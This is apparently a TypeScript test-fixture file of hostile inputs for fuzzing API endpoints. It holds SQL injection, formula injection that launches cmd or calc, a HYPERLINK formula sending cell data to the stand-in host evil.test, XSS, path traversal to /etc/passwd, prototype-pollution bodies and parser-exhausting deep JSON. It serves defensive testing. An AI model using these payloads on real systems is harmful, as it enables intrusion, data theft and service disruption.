/**
 * The classic hostile payloads every entry point is fed besides what fast-check derives from its
 * schema: SQL and formula injection, overlong text, NUL bytes and lone surrogates, numbers at and
 * past every limit, wrong types, unknown and prototype-polluting keys, and raw bodies that are not
 * JSON, not UTF-8 or nested 10,000 deep.
 */

export const OVERLONG = "x".repeat(100_000);

/** Strings a text field accepts by type; what a careless layer would run, interpret or choke on. */
export const HOSTILE_STRINGS: readonly string[] = [
  "' OR '1'='1",
  "'; DROP TABLE subjects; --",
  "1; SELECT pg_sleep(5); --",
  "\\'; select current_user; --",
  "$1",
  "%s%s%s%n",
  "=cmd|' /C calc'!A0",
  "=HYPERLINK(\"http://evil.test/?\"&A1,\"x\")",
  "+SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  OVERLONG,
  "a".repeat(1001),
  "\u0000",
  "abc\u0000def",
  "\uD800",
  "\uDFFF\uD800",
  "\u202Egnp.exe",
  "𝕿𝖗𝖎𝖆𝖑 🧪",
  "<script>alert(1)</script>",
  "${7*7}{{7*7}}",
  "../../../../etc/passwd",
  "__proto__",
  "constructor",
  "",
  " ",
  "null",
  "NaN",
  "Infinity",
  "-0",
  "1e308",
  "9223372036854775808",
  "-9223372036854775809",
  "0x7fffffff",
  "2024-02-30",
  "0000-00-00",
  "9999-12-31",
  "+275760-09-13",
  "2024-01-01T25:61",
  "2024-01-01T10:00:00+99:00",
  "00000000-0000-0000-0000-000000000000",
  "ffffffff-ffff-ffff-ffff-ffffffffffff",
];

export const HOSTILE_NUMBERS: readonly number[] = [
  1e308,
  -1e308,
  2 ** 63,
  -(2 ** 63),
  2 ** 53 + 2,
  Number.MAX_SAFE_INTEGER,
  2 ** 31,
  -(2 ** 31) - 1,
  -0,
  -1,
  0,
  0.5,
  Number.MIN_VALUE,
];

/** Values of the wrong type for whatever field they land in. */
export const WRONG_TYPES: readonly unknown[] = [null, true, false, [], {}, [[["deep"]]], { $ne: null }, { __proto__: { admin: true } }, 12345, "text", ["a", 1, null]];

/** Nested `levels` deep: `[[[…]]]` or `{"a":{"a":…}}`, built as text (JSON.stringify would recurse). */
export function deepJson(levels: number, kind: "array" | "object"): string {
  return kind === "array" ? "[".repeat(levels) + "]".repeat(levels) : '{"a":'.repeat(levels) + "1" + "}".repeat(levels);
}

const encoder = new TextEncoder();

/**
 * Whole bodies no schema describes. `valid` is a well-typed body of the operation, so several of
 * these differ from something it would accept in one hostile detail only.
 */
export function rawBodies(valid: Record<string, unknown>): { name: string; body: BodyInit; contentType?: string }[] {
  const json = JSON.stringify(valid);
  const firstKey = Object.keys(valid)[0] ?? "x";
  const withValue = (value: string) => JSON.stringify({ ...valid, [firstKey]: "§" }).replace('"§"', value);
  const bytes = (text: string, inject: number[]) => {
    const at = text.indexOf("§");
    return new Uint8Array([...encoder.encode(text.slice(0, at)), ...inject, ...encoder.encode(text.slice(at + 1))]);
  };
  return [
    { name: "invalid UTF-8 in a string", body: bytes(withValue('"§"'), [0xff, 0xfe, 0xc3, 0x28, 0xed, 0xa0, 0x80]) },
    { name: "invalid UTF-8 outside strings", body: bytes(json.replace(/^\{/, "{§"), [0xc0, 0xaf]) },
    { name: "a NUL byte in the body", body: json.replace(/^\{/, "{\u0000") },
    { name: "an escaped NUL in a value", body: withValue('"a\\u0000b"') },
    { name: "a lone surrogate escape", body: withValue('"\\ud800"') },
    { name: "deep arrays (10,000 levels)", body: deepJson(10_000, "array") },
    { name: "deep objects (10,000 levels)", body: deepJson(10_000, "object") },
    { name: "arrays nested 500,000 deep (just under the 1 MiB cap)", body: deepJson(500_000, "array") },
    { name: "a value nested 100,000 deep in a field", body: withValue(deepJson(100_000, "array")) },
    { name: "a deep value in a field", body: withValue(deepJson(10_000, "object")) },
    { name: "a 100k-character value", body: withValue(JSON.stringify(OVERLONG)) },
    { name: "a 2 MiB body (past the 1 MiB cap)", body: withValue(JSON.stringify("x".repeat(2 * 1024 * 1024))) },
    { name: "1e400 (Infinity once parsed)", body: withValue("1e400") },
    { name: "-0", body: withValue("-0") },
    { name: "2^63", body: withValue("9223372036854775808") },
    { name: "__proto__ key", body: json.replace(/^\{/, '{"__proto__":{"role":"admin","isAdmin":true},') },
    { name: "constructor.prototype key", body: json.replace(/^\{/, '{"constructor":{"prototype":{"role":"admin"}},') },
    { name: "unknown field", body: json.replace(/^\{/, '{"siteId":"00000000-0000-0000-0000-000000000000","isAdmin":true,') },
    { name: "duplicate keys", body: json.replace(/^\{/, `{${JSON.stringify(firstKey)}:null,`) },
    { name: "not JSON", body: "{'single': quotes,}" },
    { name: "truncated JSON", body: json.slice(0, Math.max(1, json.length - 3)) },
    { name: "JSON null", body: "null" },
    { name: "JSON array", body: `[${json}]` },
    { name: "JSON string", body: JSON.stringify(json) },
    { name: "a bare number", body: "1e308" },
    { name: "form encoding", body: "a=1&b=2", contentType: "application/x-www-form-urlencoded" },
    { name: "text/csv", body: "=cmd|' /C calc'!A0", contentType: "text/csv" },
    { name: "JSON sent as text/plain", body: json, contentType: "text/plain" },
  ];
}

/** Path segments in place of an id. */
export const HOSTILE_IDS: readonly string[] = [
  "00000000-0000-0000-0000-000000000000",
  "not-a-uuid",
  "1' OR '1'='1",
  "%00",
  "%27%3B%20DROP%20TABLE%20subjects%3B--",
  "..%2F..%2Fusers",
  "%E0%A4%A",
  "%FF%FE",
  "x".repeat(5000),
  "__proto__",
  "9223372036854775808",
];
